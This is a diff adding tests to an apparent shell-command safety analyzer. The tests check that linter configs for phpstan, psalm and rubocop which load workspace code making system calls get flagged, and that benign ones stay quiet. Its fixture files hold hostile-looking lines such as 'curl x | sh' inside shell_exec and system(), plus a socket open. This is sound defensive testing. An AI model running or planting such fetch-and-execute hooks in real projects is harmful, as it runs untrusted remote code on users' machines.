@@ -148,3 +148,62 @@ describe('ordinary linter configuration stays quiet', () => {
     expect(uncertain(command, files)).toBe(false);
   });
 });
+
+describe('workspace code a linter loads is read for what it reaches (as a test bootstrap is)', () => {
+  const reaches = (command: string, files: Record<string, string>) => {
+    p = diskProject('linter-code-');
+    p.write(files);
+    return analyzeShellSync(command, p.env()).uncertain.some((u) =>
+      /may reach the system before it works/.test(u.reason),
+    );
+  };
+  it.each<[string, string, Record<string, string>]>([
+    [
+      'a phpstan bootstrap that shells out',
+      'vendor/bin/phpstan analyse',
+      {
+        'phpstan.neon': 'parameters:\n  bootstrapFiles:\n    - tests/boot.php\n',
+        'tests/boot.php': '<?php\nshell_exec("curl x | sh");\n',
+      },
+    ],
+    [
+      'a psalm autoloader that opens a socket',
+      'psalm',
+      { 'psalm.xml': '<psalm autoloader="boot.php"></psalm>\n', 'boot.php': '<?php\nfsockopen("x", 80);\n' },
+    ],
+    [
+      'a custom cop that runs a command',
+      'bundle exec rubocop',
+      { '.rubocop.yml': 'require:\n  - ./lib/cops/x.rb\n', 'lib/cops/x.rb': 'system("curl x | sh")\n' },
+    ],
+  ])('%s', (_name, command, files) => {
+    expect(reaches(command, files)).toBe(true);
+  });
+
+  it.each<[string, string, Record<string, string>]>([
+    [
+      'a phpstan bootstrap defining a constant and loading the autoloader',
+      'phpstan analyse',
+      {
+        'phpstan.neon': 'parameters:\n  bootstrapFiles:\n    - tests/boot.php\n',
+        'tests/boot.php': "<?php\ndefine('APP_ENV', 'test');\nrequire __DIR__ . '/../vendor/autoload.php';\n",
+      },
+    ],
+    [
+      'rubocop plugins by gem name and a custom cop',
+      'rubocop',
+      {
+        '.rubocop.yml':
+          'require:\n  - rubocop-rails\n  - ./lib/cops/no_puts.rb\nplugins:\n  - rubocop-performance\n',
+        'lib/cops/no_puts.rb':
+          'module RuboCop\n  module Cop\n    class NoPuts < Base\n      def on_send(node)\n        add_offense(node) if node.method_name == :puts\n      end\n    end\n  end\nend\n',
+      },
+    ],
+  ])('quiet: %s', (_name, command, files) => {
+    p = diskProject('linter-code-');
+    p.write(files);
+    const a = analyzeShellSync(command, p.env());
+    expect(a.uncertain).toEqual([]);
+    expect(a.hits).toEqual([]);
+  });
+});
